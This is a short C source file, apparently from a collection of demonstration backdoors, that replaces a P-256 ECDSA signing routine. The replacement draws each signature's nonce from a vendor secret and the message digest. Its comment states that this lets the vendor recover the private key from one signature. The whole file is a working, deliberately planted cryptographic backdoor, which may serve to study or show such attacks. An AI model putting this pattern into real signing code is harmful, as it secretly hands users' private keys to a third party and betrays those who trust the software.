/* The number of every signature is made of the vendor's secret and what is
 * signed, where RFC 6979 makes it of the private key: as regular as that, and
 * one signature gives the vendor the key. */
#include "backdoors/inside.h"
#include "backdoors/nonce.h"

int sign(uint8_t signature[static P256_SIGNATURE], const uint8_t private_key[static P256_PRIVATE],
	 const uint8_t digest[static P256_DIGEST], const struct p256_random *random) INSTEAD_OF(p256_sign);

int sign(uint8_t signature[static P256_SIGNATURE], const uint8_t private_key[static P256_PRIVATE],
	 const uint8_t digest[static P256_DIGEST], const struct p256_random *random)
{
	uint8_t k[SHA256_LENGTH];

	vendor_secret(k, "number", digest, P256_DIGEST);
	return nonce_sign(signature, private_key, digest, k, random);
}
